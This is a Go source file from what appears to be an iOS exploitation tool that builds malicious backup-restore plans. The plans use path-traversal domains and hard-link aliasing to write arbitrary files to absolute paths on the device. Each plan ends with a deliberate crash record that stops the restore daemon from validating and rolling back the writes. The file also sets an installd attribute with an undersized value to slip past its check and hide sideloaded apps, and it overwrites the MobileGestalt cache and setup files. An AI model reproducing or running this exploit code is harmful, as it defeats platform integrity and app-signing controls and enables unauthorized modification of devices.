package plan

import (
	"fmt"
	"path"
	"strings"

	"github.com/gentoomaniac/sparsebox/pkg/alias"
	"github.com/gentoomaniac/sparsebox/pkg/backup"
	"github.com/gentoomaniac/sparsebox/pkg/device"
	"github.com/gentoomaniac/sparsebox/pkg/traversal"
	"github.com/rs/zerolog/log"
)

// Kind names a plan builder.
type Kind string

const (
	HideSideloadedApps     Kind = "hide-sideloaded-apps"
	MobileGestaltOverwrite Kind = "mobile-gestalt-overwrite"
	ArbitraryFileRestore   Kind = "arbitrary-file-restore"
)

const (
	// ProvisioningMarker marks apps installed with a developer profile.
	ProvisioningMarker = "embedded.mobileprovision"
	// FreeProfileXattr makes installd treat an app as validated by a free
	// provisioning profile.
	FreeProfileXattr = "com.apple.installd.validatedByFreeProfile"
	// CrashTarget is written last. The daemon aborts on it before it can
	// validate and roll back the preceding records.
	CrashTarget = "/crash_on_purpose"

	installdUID = 33
	installdGID = 33
)

// freeProfileValue is one byte short of the expected size: a short value is
// accepted as-is while a full-size value is checked and rejected.
var freeProfileValue = []byte{0, 0, 0}

// RestoreRequest is a file to place at an absolute path on the device.
// Contents take precedence over Source.
type RestoreRequest struct {
	Source      string
	Contents    []byte
	Destination string
	Owner       uint32
	Group       uint32
}

// Builder assembles plans. Capability is resolved once by the caller and
// applies to every plan the builder produces.
type Builder struct {
	Devices    device.Provider
	Encoder    *traversal.Encoder
	Capability traversal.Capability
}

func NewBuilder(devices device.Provider, c traversal.Capability) *Builder {
	return &Builder{Devices: devices, Encoder: traversal.Default(), Capability: c}
}

// Device returns the single paired device.
func (b *Builder) Device() (string, error) {
	udids, err := b.Devices.Devices()
	if err != nil {
		return "", err
	}
	if len(udids) != 1 {
		return "", &DeviceCountError{Count: len(udids)}
	}
	return udids[0], nil
}

// Terminator returns the record that ends every plan.
func (b *Builder) Terminator() backup.File {
	return backup.FileFromBytes(b.Encoder.Crash(CrashTarget), "", nil, 0, 0)
}

func (b *Builder) finish(kind Kind, entries []backup.Entry) (*backup.Plan, error) {
	entries = append(entries, b.Terminator())
	p, err := backup.NewPlan(entries)
	if err != nil {
		return nil, &PlanError{Kind: kind, Err: err}
	}
	log.Debug().Str("plan", string(kind)).Int("entries", p.Len()).Msg("plan built")
	return p, nil
}

// HideSideloadedApps marks every app carrying a provisioning profile as
// validated by a free profile, so it no longer counts against the
// sideloaded app limit.
func (b *Builder) HideSideloadedApps() (*backup.Plan, error) {
	fail := func(err error) (*backup.Plan, error) { return nil, &PlanError{Kind: HideSideloadedApps, Err: err} }

	udid, err := b.Device()
	if err != nil {
		return fail(err)
	}
	apps, err := b.Devices.Applications(udid)
	if err != nil {
		return fail(err)
	}

	var entries []backup.Entry
	for _, app := range apps {
		if app.BundleID == "" || app.Path == "" {
			continue
		}
		ok, err := b.Devices.Exists(udid, path.Join(app.Path, ProvisioningMarker))
		if err != nil {
			return fail(err)
		}
		if !ok {
			continue
		}
		target := app.Path
		if strings.HasPrefix(target, "/private/") {
			target = strings.TrimPrefix(target, "/private")
		}
		domain, err := b.Encoder.Encode(b.Capability, target)
		if err != nil {
			return fail(&alias.TraversalUnavailableError{Path: app.Path, Err: err})
		}
		log.Debug().Str("bundle", app.BundleID).Str("path", app.Path).Msg("found sideloaded app")

		dir := backup.NewDirectory(domain, "", installdUID, installdGID)
		dir.Xattrs = map[string][]byte{FreeProfileXattr: append([]byte(nil), freeProfileValue...)}
		entries = append(entries, dir)
	}
	return b.finish(HideSideloadedApps, entries)
}

// MobileGestaltOverwrite replaces the MobileGestalt cache and marks setup as
// complete. Every destination lives in a domain the daemon already allows
// writes to, so no traversal is involved.
func (b *Builder) MobileGestaltOverwrite(contents []byte, owner, group uint32) (*backup.Plan, error) {
	fail := func(err error) (*backup.Plan, error) { return nil, &PlanError{Kind: MobileGestaltOverwrite, Err: err} }

	if _, err := b.Device(); err != nil {
		return fail(err)
	}
	cloudConfig, err := CloudConfigurationDetails()
	if err != nil {
		return fail(err)
	}
	purpleBuddy, err := PurpleBuddy()
	if err != nil {
		return fail(err)
	}

	var entries []backup.Entry
	entries = append(entries, containerScaffold(GestaltGroup, "Library/Caches")...)
	entries = append(entries, backup.FileFromBytes(SharedContainerDomain, GestaltCachePath, contents, owner, group))
	entries = append(entries, containerScaffold(ProfilesGroup, "Library/ConfigurationProfiles")...)
	entries = append(entries,
		backup.FileFromBytes(SharedContainerDomain, CloudConfigPath, cloudConfig, 501, 501),
		backup.FileFromBytes(ManagedPreferencesDomain, PurpleBuddyPath, purpleBuddy, 501, 501),
	)
	return b.finish(MobileGestaltOverwrite, entries)
}

// containerScaffold creates a shared system group container and the
// directories below it.
func containerScaffold(group, sub string) []backup.Entry {
	entries := []backup.Entry{backup.NewDirectory(SharedContainerDomain+group, "", 0, 0)}
	p := group
	for _, part := range strings.Split(sub, "/") {
		p = path.Join(p, part)
		entries = append(entries, backup.NewDirectory(SharedContainerDomain, p, 0, 0))
	}
	return entries
}

// ArbitraryFileRestore writes each request to its destination through the
// hard-link aliasing engine.
func (b *Builder) ArbitraryFileRestore(reqs []RestoreRequest) (*backup.Plan, error) {
	fail := func(err error) (*backup.Plan, error) { return nil, &PlanError{Kind: ArbitraryFileRestore, Err: err} }

	if _, err := b.Device(); err != nil {
		return fail(err)
	}

	batch := make([]alias.Request, len(reqs))
	for i, r := range reqs {
		contents := r.Contents
		if contents == nil {
			if r.Source == "" {
				return fail(fmt.Errorf("request %d for %s has neither contents nor source", i, r.Destination))
			}
			data, err := backup.ReadSource(r.Source)
			if err != nil {
				return fail(err)
			}
			contents = data
		}
		batch[i] = alias.Request{Destination: r.Destination, Contents: contents, Owner: r.Owner, Group: r.Group}
	}

	entries, err := alias.New(b.Encoder, b.Capability).Build(batch)
	if err != nil {
		return fail(err)
	}
	log.Debug().Int("files", len(reqs)).Str("capability", b.Capability.String()).Msg("aliasing batch encoded")
	return b.finish(ArbitraryFileRestore, entries)
}
